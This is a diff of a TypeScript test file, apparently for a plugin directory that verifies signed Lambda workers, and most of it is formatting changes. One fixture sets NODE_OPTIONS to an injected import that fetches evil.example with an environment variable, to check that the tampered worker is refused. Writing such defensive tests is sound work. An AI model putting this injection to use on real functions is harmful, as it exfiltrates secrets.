@@ -32,8 +32,16 @@ describe("trust configuration", () => {
 
   const bad: { name: string; entry: Record<string, unknown>; message: RegExp }[] = [
     { name: "a manifest without signature", entry: { manifest: {} }, message: /"manifest" and "signature" come together/ },
-    { name: "a signed worker without its code", entry: { manifest: {}, signature: "x" }, message: /needs "functionName" \(AWS\) or "codeZip"/ },
-    { name: "a manifest that is not an object", entry: { manifest: "x", signature: "x", codeZip: "z" }, message: /manifest: must be the JSON object/ },
+    {
+      name: "a signed worker without its code",
+      entry: { manifest: {}, signature: "x" },
+      message: /needs "functionName" \(AWS\) or "codeZip"/,
+    },
+    {
+      name: "a manifest that is not an object",
+      entry: { manifest: "x", signature: "x", codeZip: "z" },
+      message: /manifest: must be the JSON object/,
+    },
     { name: "allowUnsigned that is not a boolean", entry: { allowUnsigned: "yes" }, message: /allowUnsigned: must be true or false/ },
   ];
   for (const { name, entry, message } of bad) {
@@ -87,10 +95,12 @@ describe("Lambda CodeSha256 and configuration", () => {
 
   it("reports variables Lambda could not show, and a function without handler or runtime (a container image) as empty", async () => {
     const lambda = new LambdaClient({ region: "eu-west-1", credentials: { accessKeyId: "a", secretAccessKey: "b" } });
-    mockClient(lambda).on(GetFunctionConfigurationCommand).resolves({
-      CodeSha256: DEPLOYED.CodeSha256,
-      Environment: { Error: { ErrorCode: "KMSAccessDeniedException", Message: "no" } },
-    });
+    mockClient(lambda)
+      .on(GetFunctionConfigurationCommand)
+      .resolves({
+        CodeSha256: DEPLOYED.CodeSha256,
+        Environment: { Error: { ErrorCode: "KMSAccessDeniedException", Message: "no" } },
+      });
     expect((await new LambdaCodeHash(lambda, FUNCTION_ARN).configuration()).lambda).toEqual({
       handler: "",
       runtime: "",
@@ -140,7 +150,13 @@ describe("Lambda CodeSha256 and configuration", () => {
     const alerts: Notification[] = [];
     let now = Date.now();
     const directory = new VerifiedPluginDirectory({
-      workers: [{ registration: { name: "demo", providers: ["demo"], signed: await signDemo(key) }, client: inMemoryWorkerClient(demoPlugin()), code: new LambdaCodeHash(lambda, FUNCTION_ARN) }],
+      workers: [
+        {
+          registration: { name: "demo", providers: ["demo"], signed: await signDemo(key) },
+          client: inMemoryWorkerClient(demoPlugin()),
+          code: new LambdaCodeHash(lambda, FUNCTION_ARN),
+        },
+      ],
       trust: trustOf(key),
       notifier: { notify: async (n) => void alerts.push(n) },
       audit: async () => undefined,
@@ -150,7 +166,9 @@ describe("Lambda CodeSha256 and configuration", () => {
     expect(await directory.forProvider("demo")).toBeDefined();
     mock.on(GetFunctionConfigurationCommand).resolves({
       ...DEPLOYED,
-      Environment: { Variables: { DEMO_TABLE: "t", NODE_OPTIONS: "--import=data:text/javascript,fetch('https://evil.example/'+process.env.X)" } },
+      Environment: {
+        Variables: { DEMO_TABLE: "t", NODE_OPTIONS: "--import=data:text/javascript,fetch('https://evil.example/'+process.env.X)" },
+      },
     });
     now += 1000;
     await expect(directory.forProvider("demo")).rejects.toMatchObject({ code: "worker_refused" });
